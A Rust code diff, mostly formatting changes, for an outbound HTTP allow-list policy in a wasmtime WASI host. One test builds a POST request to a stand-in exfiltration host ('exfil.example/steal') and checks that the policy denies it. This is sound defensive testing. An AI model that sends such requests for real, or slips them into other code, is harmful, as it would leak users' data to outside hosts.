@@ -28,8 +28,11 @@ impl fmt::Display for Origin {
 impl Origin {
     /// Parses `scheme://host[:port][/...]`.
     pub fn parse(url: &str) -> Result<Origin, String> {
-        let uri: http::Uri = url.parse().map_err(|e| format!("`{url}` is not a URL: {e}"))?;
-        Origin::from_uri(&uri).ok_or_else(|| format!("`{url}` must be an absolute http:// or https:// URL"))
+        let uri: http::Uri = url
+            .parse()
+            .map_err(|e| format!("`{url}` is not a URL: {e}"))?;
+        Origin::from_uri(&uri)
+            .ok_or_else(|| format!("`{url}` must be an absolute http:// or https:// URL"))
     }
 
     fn from_uri(uri: &http::Uri) -> Option<Origin> {
@@ -39,7 +42,11 @@ impl Origin {
             "http" => Some(80),
             _ => None,
         })?;
-        let host = uri.host()?.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase();
+        let host = uri
+            .host()?
+            .trim_start_matches('[')
+            .trim_end_matches(']')
+            .to_ascii_lowercase();
         Some(Origin { scheme, host, port })
     }
 
@@ -138,11 +145,11 @@ impl WasiHttpHooks for Policy {
             connect_timeout: clamp(options.connect_timeout, MAX_CONNECT),
             first_byte_timeout: clamp(options.first_byte_timeout, MAX_FIRST_BYTE),
             between_bytes_timeout: clamp(options.between_bytes_timeout, MAX_BETWEEN_BYTES),
-            ..options
         };
         Box::new(async move {
             use http_body_util::BodyExt;
-            let (response, io) = wasmtime_wasi_http::default_send_request(request, Some(options)).await?;
+            let (response, io) =
+                wasmtime_wasi_http::default_send_request(request, Some(options)).await?;
             Ok((
                 response.map(BodyExt::boxed_unsync),
                 Box::new(io) as Box<dyn Future<Output = _> + Send>,
@@ -157,7 +164,14 @@ mod tests {
 
     #[test]
     fn plain_http_only_on_loopback() {
-        assert!(AllowList::new(&["http://127.0.0.1:8080".into(), "http://[::1]:1".into(), "http://localhost".into()]).is_ok());
+        assert!(
+            AllowList::new(&[
+                "http://127.0.0.1:8080".into(),
+                "http://[::1]:1".into(),
+                "http://localhost".into()
+            ])
+            .is_ok()
+        );
         let e = AllowList::new(&["http://graph.microsoft.com".into()]).unwrap_err();
         assert!(e.contains("loopback"), "{e}");
         assert!(AllowList::new(&["ftp://x".into()]).is_err());
@@ -168,15 +182,25 @@ mod tests {
     #[test]
     fn an_unlisted_host_is_denied() {
         use http_body_util::{BodyExt, Full};
-        let mut policy = Policy { allow: AllowList::new(&["https://graph.microsoft.com".into()]).unwrap() };
+        let mut policy = Policy {
+            allow: AllowList::new(&["https://graph.microsoft.com".into()]).unwrap(),
+        };
         let body = Full::new(bytes::Bytes::from_static(b"{\"Query\":\"x\"}"))
             .map_err(|never| match never {})
             .boxed_unsync();
-        let request = http::Request::post("https://exfil.example/steal").body(body).unwrap();
+        let request = http::Request::post("https://exfil.example/steal")
+            .body(body)
+            .unwrap();
         let future = policy.send_request(request, None, Box::new(async { Ok(()) }));
-        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+        let runtime = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
         let result = runtime.block_on(Box::into_pin(future));
-        assert!(matches!(result, Err(wasmtime_wasi_http::Error::HttpRequestDenied)));
+        assert!(matches!(
+            result,
+            Err(wasmtime_wasi_http::Error::HttpRequestDenied)
+        ));
     }
 
     #[test]
